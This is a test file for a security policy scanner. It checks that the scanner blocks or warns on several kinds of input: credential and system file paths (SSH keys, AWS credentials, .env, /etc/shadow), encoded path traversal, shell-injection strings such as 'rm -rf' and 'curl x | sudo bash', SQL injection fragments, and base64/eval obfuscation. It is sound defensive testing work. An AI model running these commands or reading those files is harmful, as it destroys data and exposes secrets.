import { describe, expect, it } from "vitest";
import { createSafetyRules, SAFETY_RULES, scanPolicy } from "../../src/index.js";

function hits(text: string): (string | boolean)[][] {
  const { blocked, findings } = scanPolicy(text);
  return findings.map(({ rule, severity, action }) => [rule, severity, action, blocked]);
}

describe("policy rules", () => {
  it.each([
    "/etc/passwd",
    "/etc/shadow",
    "/proc/self/environ",
    "/proc/self/cmdline",
    "~/.ssh/id_rsa",
    "~/.aws/credentials",
    "~/.aws/config",
    "~/.docker/config.json",
    "~/.kube/config",
    "~/.gnupg/x",
    "~/.netrc",
  ])("[SAFE-037] blocks the system file %s in parameters", (path) => {
    expect(hits(path)).toEqual([["system_file_access", "critical", "block", true]]);
  });

  it("[SAFE-037] blocks environment files but not their examples", () => {
    for (const name of [
      ".env",
      "/app/.env",
      ".env.local",
      ".env.production.dist",
      "x/.env.example.local",
    ]) {
      expect(hits(name), name).toEqual([["dotenv_access", "critical", "block", true]]);
    }
    for (const name of [
      ".env.example",
      ".env.template",
      ".env.sample",
      ".envrc",
      ".environment",
      "a.env",
      "process.env",
    ]) {
      expect(hits(name), name).toEqual([]);
    }
  });

  it.each([
    "../x",
    "..\\x",
    "%2e%2e/x",
    "%2E%2E%2Fx",
    "..%2fx",
    "..%5cx",
    "%252e%252e/x",
    "%252e%252e%252fx",
  ])("[SAFE-037] warns of the traversal %s in parameters", (path) => {
    expect(hits(path)).toEqual([["path_traversal", "medium", "warn", false]]);
  });

  it("[SAFE-038] finds contents with their severity and action", () => {
    const key = "0f".repeat(32);
    for (const label of [
      "private key: ",
      "seed phrase = ",
      "mnemonic 0x",
      `privateKey ${" ".repeat(18)}`,
    ]) {
      expect(hits(label + key), label).toEqual([["crypto_private_key", "critical", "block", true]]);
    }
    expect(hits(`private key ${"x".repeat(21)} ${key}`)).toEqual([]);
    for (const injected of [
      "a; rm -rf b",
      "a&&rm -fr b",
      "a || rm -rf b",
      "a; curl x | sh",
      "a && curl x | sudo bash",
    ]) {
      expect(hits(injected), injected).toEqual([["shell_injection", "critical", "block", true]]);
    }
    expect(hits("x' UNION SELECT 1")).toEqual([["sql_pattern", "medium", "warn", false]]);
    expect(hits("https://a.b ".repeat(10))).toEqual([["excessive_urls", "low", "warn", false]]);
    expect(hits("https://a.b ".repeat(9))).toEqual([]);
    expect(hits("https://a.b/?https://c.d ".repeat(9))).toEqual([]);
    for (const code of ["base64_decode(x)", "eval(base64 x)", "atob(x)"]) {
      expect(hits(code), code).toEqual([["encoded_exploit", "high", "sanitize", false]]);
    }
    expect(hits("ab".repeat(250))).toEqual([["obfuscated_string", "medium", "warn", false]]);
    expect(hits("ab".repeat(249))).toEqual([]);
  });

  it("[SAFE-039] does not treat backticks and substitutions as injection", () => {
    for (const text of [
      "Use `print('hello')` to debug",
      'echo "built on $(date)"',
      "`rm -rf x`",
      "$(rm -rf x)",
    ]) {
      expect(hits(text), text).toEqual([]);
    }
  });

  it("[SAFE-040] only warns in output and input", () => {
    const texts = [
      "/etc/passwd",
      ".env",
      "../x",
      "a; rm -rf b",
      "DROP TABLE a",
      "atob(x)",
      "ab".repeat(250),
      "https://a.b ".repeat(10),
    ];
    for (const context of ["output", "input"] as const) {
      for (const text of texts) {
        expect(scanPolicy(text, { context }), text).toMatchObject({
          blocked: false,
          action: "warn",
        });
      }
      const wallet = scanPolicy(`private key: ${"0f".repeat(32)}`, { context });
      expect(wallet.action).toBe(context === "output" ? "redact" : "warn");
    }
  });

  it("[SAFE-042] disables, changes and adds rules, and reports rule, severity, action and range", () => {
    const rules = createSafetyRules({
      rules: {
        path_traversal: { enabled: false },
        sql_pattern: { severity: "high", actions: { params: "review" } },
      },
      added: [
        {
          id: "internal_host",
          title: "internal host",
          reason: "It is not for the outside.",
          severity: "low",
          kind: "policy",
          pattern: "\\b[a-z]+\\.corp\\b",
          examples: { match: ["wiki.corp"], clean: ["corp"] },
        },
      ],
    });
    const { action, findings } = scanPolicy("../x DROP TABLE a on db.corp", { rules });
    expect(action).toBe("block");
    expect(findings).toMatchObject([
      { rule: "sql_pattern", severity: "high", action: "review", range: [5, 15] },
      { rule: "internal_host", severity: "low", action: "block", range: [21, 28] },
    ]);
    expect(scanPolicy("DROP TABLE a", { rules }).action).toBe("review");
    expect(SAFETY_RULES.map(({ id }) => id)).toContain("path_traversal");
  });
});
